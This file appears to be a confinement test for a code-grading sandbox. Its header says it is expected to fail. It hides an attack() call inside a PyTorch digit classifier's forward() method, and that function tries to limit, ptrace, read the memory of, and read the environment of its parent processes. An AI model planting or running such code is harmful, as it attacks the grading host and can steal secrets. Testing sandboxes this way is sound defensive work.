# expect: fail values output differs
# exercise: exercise2
# needs: confinement
# Reaches for the processes above it without a signal: lowers their resource limits (prlimit: no more
# files, no memory), their priority and CPUs, attaches a debugger (ptrace), reads and writes their
# memory (process_vm_readv, /proc/PID/mem) and reads their environment. Prints LEAKED for each success.
import ctypes
import os
import resource

import torch
from torch import nn

libc = ctypes.CDLL(None, use_errno=True)


def ancestors():
    pid = os.getppid()
    while pid > 1:
        yield pid
        try:
            pid = int(open(f"/proc/{pid}/status").read().split("PPid:")[1].split()[0])
        except (OSError, IndexError, ValueError):
            return


def read_memory(pid):
    start = int(open(f"/proc/{pid}/maps").readline().split("-")[0], 16)
    with open(f"/proc/{pid}/mem", "rb") as f:
        f.seek(start)
        f.read(16)


def attack():
    for pid in ancestors():
        tries = {
            "prlimit": lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)),
            "setpriority": lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
            "affinity": lambda: os.sched_setaffinity(pid, {0}),
            "ptrace": lambda: libc.ptrace(16, pid, None, None) == 0 or 1 / 0,
            "mem": lambda: read_memory(pid),
            "environ": lambda: open(f"/proc/{pid}/environ", "rb").read(1) or 1 / 0,
        }
        for name, call in tries.items():
            try:
                call()
                print(f"LEAKED {name} {pid}")
            except (OSError, ZeroDivisionError, ValueError):
                pass

class DigitClassifier(nn.Module):
    def __init__(self):
        super().__init__()
        self.flatten = nn.Flatten()
        self.fc1 = nn.Linear(784, 128)
        self.relu = nn.ReLU()
        self.fc2 = nn.Linear(128, 10)

    def forward(self, x):
        attack()
        return self.fc2(self.fc1(self.flatten(x)))
